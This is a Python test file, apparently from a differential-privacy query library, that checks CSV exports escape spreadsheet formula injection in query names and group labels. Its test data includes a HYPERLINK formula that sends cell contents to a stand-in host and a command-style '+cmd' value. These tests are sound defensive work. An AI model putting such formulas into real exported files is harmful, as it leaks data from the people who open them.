"""A name or label such as ``=HYPERLINK(…)`` stood unescaped in the CSV of answers."""

import csv

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lrm.domain import Categories, Domain
from lrm.files.csv_cells import csv_text
from lrm.planning.plan.planner import plan
from lrm.queries.sql import sql
from lrm.queries.workload import Workload
from lrm.releases import release

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
]


def rows_of(workload, path):
    answered = release(plan(workload, "noise-on-data"), np.ones(workload.shape[1]), epsilon=1)
    answered.write(path)
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_names_of_queries_are_no_formulas(tmp_path):
    named = Workload(np.eye(len(FORMULAS)), names=FORMULAS)
    rows = rows_of(named, tmp_path / "answers.csv")
    for row, name in zip(rows[1:], FORMULAS, strict=True):
        assert row[:3] == [f"'{FORMULAS[0]}", *[f"'{name}"] * 2]
        assert all(np.isfinite([float(cell) for cell in row[3:]]))  # numbers stay numbers


def test_labels_of_groups_and_titles_are_no_formulas(tmp_path):
    domain = Domain([Categories("=kind", ["=1+1", "plain", "-5", "-2+3"])], "t")
    batch = sql('SELECT "=kind", COUNT(*) FROM t GROUP BY "=kind"', domain)
    rows = rows_of(batch, tmp_path / "answers.csv")
    assert "'=kind" in rows[0]
    labels = [row[rows[0].index("'=kind")] for row in rows[1:]]
    assert labels == ["'=1+1", "plain", "-5", "'-2+3"]
    for row in rows:
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row)


@given(st.text())
def test_one_apostrophe_less_gives_the_text_back(text):
    cell = csv_text(text)
    assert cell in {text, f"'{text}"}
    if not cell.startswith("'"):
        assert (
            cell[:1] not in set("=@\t\r") | {"+", "-"} or float(cell.replace("..", "")) is not None
        )


@pytest.mark.parametrize("number", ["-5", "+7", "-1.25", "-9..-5", "12"])
def test_numbers_stay(number):
    assert csv_text(number) == number
